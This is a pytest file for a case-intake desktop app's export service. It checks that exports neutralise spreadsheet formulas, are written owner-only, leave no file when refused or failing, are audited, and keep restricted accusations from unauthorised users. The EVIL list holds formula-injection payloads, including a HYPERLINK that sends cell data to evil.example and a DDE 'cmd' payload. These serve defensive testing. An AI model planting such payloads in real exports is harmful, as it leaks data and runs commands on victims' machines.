"""Exports as an attacker uses them: a name that is a spreadsheet formula, a refused export that leaves a
file, an export readable by everyone, accusations reaching someone who may not see them."""

from __future__ import annotations

import csv
import stat
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select, update

from desktop.db.models import AuditEntry, Matter
from desktop.domain.errors import DomainError
from desktop.services import exporter, intake
from desktop.services.settings_service import set_setting
from tests.desktop.helpers import registration, resident_id

EVIL = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点我\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)",
        "\t=1+1", "\r=1+1"]


def _register(ctx, actor, names: list[str]) -> list[str]:  # type: ignore[no-untyped-def]
    numbers = []
    with ctx.db.session() as s:
        for i, name in enumerate(names):
            first17 = f"11010519900307{i + 10:03d}"
            m = intake.register(ctx, s, actor, registration(name=name, id_number=resident_id(first17),
                                                           summary=name))
            numbers.append(m.case_number)
    return numbers


def _export(ctx, actor, fmt: str, out: Path, unmasked: bool = False):  # type: ignore[no-untyped-def]
    with ctx.db.session() as s:
        return exporter.export_matters(ctx, s, actor, fmt, out, unmasked=unmasked)


def test_formulas_come_out_as_text_in_csv_and_xlsx(ctx, team, tmp_path) -> None:
    _register(ctx, team.clerk, EVIL)
    assert _export(ctx, team.admin, "csv", tmp_path / "m.csv").rows == len(EVIL)
    stored = [e.strip() for e in EVIL]  # the desk trims names; what remains is still a formula
    rows = list(csv.DictReader((tmp_path / "m.csv").open(encoding="utf-8-sig", newline="")))
    assert [r["petitioner_name"] for r in rows] == ["'" + e for e in stored]
    assert not [v for r in rows for v in r.values() if v.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert _export(ctx, team.admin, "xlsx", tmp_path / "m.xlsx").rows == len(EVIL)
    sheet = load_workbook(tmp_path / "m.xlsx").active
    col = [c.value for c in sheet[1]].index("petitioner_name") + 1
    assert [sheet.cell(row, col).value for row in range(2, len(EVIL) + 2)] == stored
    assert {c.data_type for row in sheet.iter_rows() for c in row if isinstance(c.value, str)} == {"s"}


@pytest.mark.parametrize("value", EVIL)
def test_every_formula_start_is_neutralised(value: str, tmp_path) -> None:
    from desktop.services.export_writer import csv_cell, write_table

    assert csv_cell(value) == "'" + value
    write_table(tmp_path / "x.xlsx", "xlsx", ["a"], [[value]])
    cell = load_workbook(tmp_path / "x.xlsx").active.cell(2, 1)
    assert cell.value == value and cell.data_type == "s"


def test_exports_are_owner_only(ctx, team, tmp_path) -> None:
    _register(ctx, team.clerk, ["张三"])
    for fmt in ("csv", "xlsx", "json"):
        _export(ctx, team.admin, fmt, tmp_path / f"m.{fmt}")
        assert stat.S_IMODE((tmp_path / f"m.{fmt}").stat().st_mode) == 0o600


def test_a_refused_export_leaves_no_file_and_is_audited(ctx, team, tmp_path) -> None:
    tmp_path = tmp_path / "out"
    tmp_path.mkdir()
    _register(ctx, team.clerk, ["张三"])
    outcome = _export(ctx, team.clerk, "csv", tmp_path / "u.csv", unmasked=True)
    assert isinstance(outcome, DomainError) and outcome.code == "permission_denied"
    assert list(tmp_path.iterdir()) == []
    with ctx.db.session() as s:
        set_setting(ctx, s, team.admin, "export.masked_roles", "admin, inspector")
    outcome = _export(ctx, team.clerk, "csv", tmp_path / "m.csv")
    assert isinstance(outcome, DomainError) and outcome.code == "export_not_allowed"
    assert list(tmp_path.iterdir()) == []
    with ctx.db.read() as s:
        refused = s.scalars(select(AuditEntry).where(AuditEntry.action == "export.refused")).all()
    assert [(e.actor_id, e.details["reason"]) for e in refused] == [
        (team.clerk.id, "permission_denied"), (team.clerk.id, "export_not_allowed")]


def test_a_failing_export_leaves_no_file(ctx, team, tmp_path, monkeypatch) -> None:
    tmp_path = tmp_path / "out"
    tmp_path.mkdir()
    _register(ctx, team.clerk, ["张三", "李四"])

    def broken(*args, **kwargs):  # type: ignore[no-untyped-def]
        yield {k: "x" for k in exporter.FIELDS}
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(exporter, "records", broken)
    with pytest.raises(OSError):
        _export(ctx, team.admin, "xlsx", tmp_path / "m.xlsx")
    assert list(tmp_path.iterdir()) == []


def test_accusations_never_reach_an_export_of_someone_who_may_not_see_them(ctx, team, tmp_path) -> None:
    numbers = _register(ctx, team.clerk, ["张三", "李四"])
    with ctx.db.session() as s:  # the clerk took in an accusation: the one rule lets them (and only them) see it
        s.execute(update(Matter).where(Matter.case_number == numbers[1]).values(restricted=True))
    _export(ctx, team.clerk, "json", tmp_path / "c.json")
    _export(ctx, team.clerk2, "json", tmp_path / "c2.json")
    _export(ctx, team.inspector, "json", tmp_path / "i.json")
    assert numbers[1] in (tmp_path / "c.json").read_text(encoding="utf-8")
    assert numbers[1] not in (tmp_path / "c2.json").read_text(encoding="utf-8")
    assert numbers[0] in (tmp_path / "c2.json").read_text(encoding="utf-8")
    assert numbers[1] in (tmp_path / "i.json").read_text(encoding="utf-8")


def test_cli_refused_export_is_one_line_no_file_and_audited(home, tmp_path, monkeypatch, capsys) -> None:
    from desktop.cli.app import run

    url = f"sqlite:///{tmp_path / 'x.sqlite3'}"
    monkeypatch.setenv("RECEPTION_PASSWORD", "admin-pass-12")
    assert run(["--db", url, "init", "--admin", "admin"]) == 0
    monkeypatch.setenv("RECEPTION_NEW_PASSWORD", "approver-pass-1")
    assert run(["--db", url, "user", "add", "sun", "--role", "approver"]) == 0
    monkeypatch.setenv("RECEPTION_PASSWORD", "approver-pass-1")
    capsys.readouterr()
    out = tmp_path / "x.csv"
    assert run(["--db", url, "--user", "sun", "export", "--format", "csv", "--out", str(out), "--unmasked"]) == 1
    assert len(capsys.readouterr().err.strip().splitlines()) == 1
    assert not out.exists() and not list(tmp_path.glob("*.part"))
    from sqlalchemy import create_engine, text

    engine = create_engine(url)
    with engine.connect() as conn:
        assert conn.execute(text("SELECT count(*) FROM audit_log WHERE action = 'export.refused'")).scalar() == 1
    engine.dispose()
